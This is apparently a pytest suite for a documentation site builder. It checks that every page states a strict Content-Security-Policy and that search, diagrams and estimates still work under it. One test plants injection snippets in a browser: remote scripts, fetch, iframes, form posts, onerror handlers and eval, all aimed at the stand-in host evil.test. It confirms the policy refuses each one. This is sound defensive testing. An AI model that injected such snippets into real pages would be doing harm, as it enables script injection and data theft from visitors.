"""The policy stands in every page, refuses nothing that the site does, and refuses what it should."""

from __future__ import annotations

import re
import time
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import pytest
from selectolax.lexbor import LexborHTMLParser

from design_round.engine import content_policy, inline_scripts
from hostile_browsing import Reader
from test_raw_html import site_of

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from playwright.sync_api import Browser

    from tours import Stop

CASE = "cases/video-recommendation/"


def stated(html: str) -> list[str]:
    """Every policy that a page states, in its order, if nothing that it rules stands before it."""
    head = LexborHTMLParser(html).css_first("head")
    assert head is not None
    names = [str(node.tag) for node in head.iter()]
    assert names[:2] == ["meta", "meta"]
    found = head.css("meta[http-equiv]")
    return [
        str(node.attributes["content"]) for node in found if node.attributes["http-equiv"] == "Content-Security-Policy"
    ]


def addresses(site: Path) -> list[str]:
    """Every page of the sitemap, from the site's root, and the page for what is not there."""
    found = re.findall(r"<loc>([^<]+)</loc>", (site / "sitemap.xml").read_text("utf-8"))
    return [urlsplit(each).path.removeprefix("/guide/") for each in found] + ["404.html"]


@pytest.fixture
def visitor(browser: Browser, guide: str) -> Iterator[Reader]:
    reader = Reader(browser, guide)
    yield reader
    reader.close()


def test_every_page_states_the_policy_before_anything_else(real_site: Path) -> None:
    """The character set, then the policy, on each page that the site has."""
    pages = {
        path.relative_to(real_site).as_posix(): stated(path.read_text("utf-8")) for path in real_site.rglob("*.html")
    }

    assert set(addresses(real_site)) <= {name.removesuffix("index.html") for name in pages}
    assert {name: found for name, found in pages.items() if found != [content_policy.policy()]} == {}


def test_the_policy_allows_no_script_in_a_page_and_no_third_party() -> None:
    """No inline script, no eval, no other host; the one source that is not the site's own is the theme's icons."""
    directives = dict(each.split(" ", 1) for each in content_policy.policy(header=True).split("; "))
    sources = {source for each in directives.values() for source in each.split()}

    assert directives["default-src"] == "'none'"
    assert directives["script-src"] == "'self'"
    assert {directives[name] for name in ("object-src", "base-uri", "form-action", "frame-src")} == {"'none'"}
    assert directives["frame-ancestors"] == "'none'"
    assert sources == {"'none'", "'self'", "'unsafe-inline'", "data:"}
    assert [name for name, each in directives.items() if "'unsafe-inline'" in each] == ["style-src", "style-src-attr"]
    assert "frame-ancestors" not in content_policy.policy()


@pytest.mark.browser
@pytest.mark.slow
def test_no_page_of_the_site_is_refused_anything(tour: dict[str, Stop], real_site: Path) -> None:
    """Each page of the sitemap, opened, asks only the site and breaks no rule."""
    assert len(tour) > 40
    assert set(addresses(real_site)) == set(tour)
    assert {address: stop.seen for address, stop in tour.items() if stop.seen.refused or stop.seen.left} == {}


@pytest.mark.browser
def test_what_the_site_does_breaks_no_rule(visitor: Reader, guide: str, real_site: Path) -> None:
    """Search with Enter, instant navigation, a figure at full size, an estimate computed anew, colours changed."""
    page = visitor.page
    # The theme goes on instantly only to addresses of the sitemap, which was built for another port.
    sitemap = (real_site / "sitemap.xml").read_text("utf-8").replace("http://127.0.0.1/guide/", guide)
    page.route("**/sitemap.xml", lambda route: route.fulfill(body=sitemap, content_type="application/xml"))
    page.goto(guide)
    page.keyboard.press("/")
    page.keyboard.type("video recommendation")
    page.locator(".md-search-result__link").first.wait_for()
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile("video|recommendation"))
    page.goto(guide)
    page.wait_for_load_state("networkidle")  # the theme has read which addresses are its own
    page.evaluate("window.same = true")
    page.evaluate("address => document.querySelector(`a[href$='${address}']`).click()", CASE)
    page.locator(".katex").first.wait_for()
    assert page.evaluate("window.same")
    page.locator(".dr-figure__canvas[data-openable]").first.click()
    page.locator("dialog.dr-viewer svg").wait_for()
    page.keyboard.press("Escape")
    page.locator("[data-estimate] input").first.fill("6")
    page.locator("[data-estimate] input").first.press("Tab")
    page.locator("label[for^='__palette']:visible").click()
    page.wait_for_load_state("networkidle")

    assert visitor.seen.refused == []
    assert visitor.seen.left == []


APPEND = "const e = Object.assign(document.createElement('{}'), {{{}}}); document.body.append(e)"
PLANTED = {
    "script in a page": ("script-src-elem", APPEND.format("script", "text: 'ran(1)'")),
    "handler": ("script-src-attr", "document.body.insertAdjacentHTML('beforeend', '<img src=data: onerror=ran(1)>')"),
    # Later, since what the test itself evaluates may evaluate more.
    "eval": ("script-src", "setTimeout(() => { try { (0, eval)('ran(1)') } catch {} }, 0)"),
    "script of another host": ("script-src-elem", APPEND.format("script", "src: 'https://evil.test/x.js'")),
    "style sheet": ("style-src-elem", APPEND.format("style", "textContent: '@import url(https://evil.test/x.css)'")),
    "picture": ("img-src", "new Image().src = 'https://evil.test/x.png'"),
    "question to another host": ("connect-src", "fetch('https://evil.test/').catch(() => {})"),
    "frame": ("frame-src", APPEND.format("iframe", "src: 'https://evil.test/'")),
    "object": ("object-src", APPEND.format("object", "data: 'https://evil.test/'")),
    "base": ("base-uri", APPEND.format("base", "href: 'https://evil.test/'")),
    "form": ("form-action", APPEND.format("form", "action: 'https://evil.test/'") + "; e.submit()"),
    "worker": ("worker-src", "try { new Worker('data:text/javascript,1') } catch {}"),
}  # fmt: skip


@pytest.mark.browser
def test_a_planted_violation_is_refused_and_seen(visitor: Reader, guide: str) -> None:
    """Each directive stops what it names, and the listener of these tests hears of it."""
    missed = {}
    for name, (directive, code) in PLANTED.items():
        visitor.visit(guide + "404.html", finger=False)
        visitor.seen.refused.clear()
        visitor.page.evaluate(f"() => {{ {code} }}")
        visitor.wait_for_a_refusal()
        if not any(each.startswith(directive) for each in visitor.seen.refused) or visitor.seen.ran:
            missed[name] = (visitor.seen.refused, visitor.seen.ran)

    assert missed == {}


NO_BROWSER = "# Home\n\n```mermaid\nflowchart TD\n  a[One {token}] --> b[Two]\n```\n\nThe rate is $\\frac{{a}}{{b}}$.\n"


@pytest.mark.browser
def test_a_site_built_without_a_browser_states_what_its_diagrams_need(
    tmp_path: Path, serve: Callable[[Path], str], browser: Browser
) -> None:
    """Mermaid in the reader's browser writes style elements and needs no eval; the policy grants that and no more."""
    site = site_of(tmp_path, {"docs/index.md": NO_BROWSER.format(token=time.time_ns()), "docs/more.md": "# More\n"})
    built = site.build(BROWSER_PATH="none")
    assert built.status == 0, built.output
    address = serve(site.site)
    reader = Reader(browser, address)

    reader.page.goto(address)
    reader.page.locator("div.mermaid svg").wait_for()
    seen = reader.seen
    reader.close()

    expected = [content_policy.policy(reader_draws=True)]
    assert expected == stated(site.page("index.html")) == stated(site.page("more/index.html"))
    assert "style-src-elem 'self' 'unsafe-inline'" in expected[0]
    assert (seen.refused, seen.left) == ([], [])


def test_a_page_that_a_plugin_writes_has_the_policy_and_no_script(tmp_path: Path) -> None:
    """A moved page keeps its anchor by a script, which is a file."""
    plugins = [
        {"offline": {"enabled": False}},
        "search",
        "tags",
        {"redirects": {"redirect_maps": {"old.md": "index.md"}}},
    ]
    site = site_of(tmp_path, {}, plugins=plugins)
    built = site.build()
    assert built.status == 0, built.output
    page = site.page("old/index.html")

    files = re.findall(r'<script src="([^"]+)"></script>', page)
    assert 'http-equiv="Content-Security-Policy"' in page
    assert re.findall(r"<script>", page) == []
    assert [(site.site / "old" / each).resolve().is_file() for each in files] == [True]


def test_only_scripts_of_the_theme_become_files() -> None:
    """A script that a note brought stays in the page, where the policy stops it; even one that begins as a theme's."""
    theirs = inline_scripts.INLINE.search((inline_scripts.TEMPLATES / "palette.html").read_text("utf-8"))["code"]
    scripts: dict[str, str] = {}
    page = f"<script>{theirs}</script><script>ran(1)</script><script>{theirs};ran(1)</script>"

    moved = inline_scripts.moved(page, "../", scripts)

    assert [theirs] == list(scripts.values())
    assert moved.count("<script>") == 2
    assert "<script>ran(1)</script>" in moved


DISK = """# Home

A phrase to find.

```estimate id="uploads" title="Uploads to review"
daily_uploads "Uploads a day" = 3 million video/day  # given
flagged "Share flagged" = 2 %                        # assumed
flagged_rate "Flagged videos" = daily_uploads * flagged
show flagged_rate as video/day
```

```mermaid
flowchart TD
  accTitle: Two
  accDescr: One leads to two
  a[One] --> b[Two]
```

The rate is $\\frac{a}{b}$.
"""


@pytest.mark.browser
def test_the_copy_for_a_disk_works_under_its_policy(tmp_path: Path, browser: Browser) -> None:
    """From file://, search, an estimate, a figure and a link work, nothing is refused, and a planted script is."""
    site = site_of(tmp_path, {"docs/index.md": DISK, "docs/more.md": "# More\n\nText.\n"})
    built = site.build(OFFLINE="true")
    assert built.status == 0, built.output
    reader = Reader(browser, "file://")
    page = reader.page
    page.goto((site.site / "index.html").as_uri())
    page.keyboard.press("/")
    page.keyboard.type("phrase to find")
    page.locator(".md-search-result__link").first.wait_for()
    page.keyboard.press("Escape")
    page.locator("#estimate-uploads input").first.fill("6")
    page.locator("#estimate-uploads input").first.press("Tab")
    page.locator("#estimate-uploads").get_by_text("120,000").first.wait_for()
    page.locator(".dr-figure__canvas[data-openable]").first.click()
    page.locator("dialog.dr-viewer svg").wait_for()
    refused = list(reader.seen.refused)
    page.evaluate("() => { " + PLANTED["script in a page"][1] + " }")
    reader.wait_for_a_refusal()
    seen = reader.seen
    reader.close()

    assert [content_policy.policy(disk=True)] == stated(site.page("index.html")) == stated(site.page("more.html"))
    assert not (site.site / "_headers").exists()
    assert (refused, seen.left, seen.ran) == ([], [], [])
    assert seen.refused != []
